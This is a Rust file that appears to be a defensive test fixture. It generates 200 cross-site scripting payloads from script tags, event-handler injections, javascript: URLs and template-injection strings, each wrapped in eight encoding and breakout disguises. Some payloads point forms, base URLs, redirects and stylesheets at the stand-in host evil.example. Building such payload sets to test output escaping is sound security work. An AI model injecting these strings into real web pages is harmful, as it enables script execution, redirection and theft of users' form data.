//! What somebody sends who wants a script of theirs in a page of ours (threat T14): each idea in each disguise.

/// Ideas.
const IDEAS: [&str; 25] = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "</title><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</textarea><iframe src=javascript:alert(1)>",
    "</form><form action=//evil.example>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<object data=data:text/html,x>",
    "<math><mtext></mtext><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<!--<script>-->alert(1)<!--",
    "<![CDATA[<script>alert(1)]]>",
    "<?php echo 1 ?>",
    "\" autofocus onfocus=alert(1) x=\"",
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)",
    "javascript:alert(1)",
    "data:text/html;base64,PHNjcmlwdD4=",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "\u{2028}<b>\u{0}<i>",
];

/// Disguises.
const DISGUISES: [fn(&str) -> String; 8] = [
    |idea| idea.to_owned(),
    |idea| format!("\">{idea}"),
    |idea| format!("'>{idea}"),
    |idea| format!("-->{idea}"),
    str::to_uppercase,
    |idea| idea.replace(' ', "\t").replace('<', "<\u{c}"),
    |idea| idea.replace('<', "&lt;").replace('>', "&#62;"),
    |idea| percent_encoding::utf8_percent_encode(idea, percent_encoding::NON_ALPHANUMERIC).to_string(),
];

/// Two hundred of them.
pub fn payloads() -> Vec<String> {
    IDEAS.iter().flat_map(|idea| DISGUISES.map(|disguise| disguise(idea))).collect()
}

/// The same with nothing in it that a page could mistake for its own: what a payload becomes must have as many parts as this.
pub fn tame(payload: &str) -> String {
    payload.replace(|character: char| "<>\"'`&%=/:;{}()[]$".contains(character), "x")
}
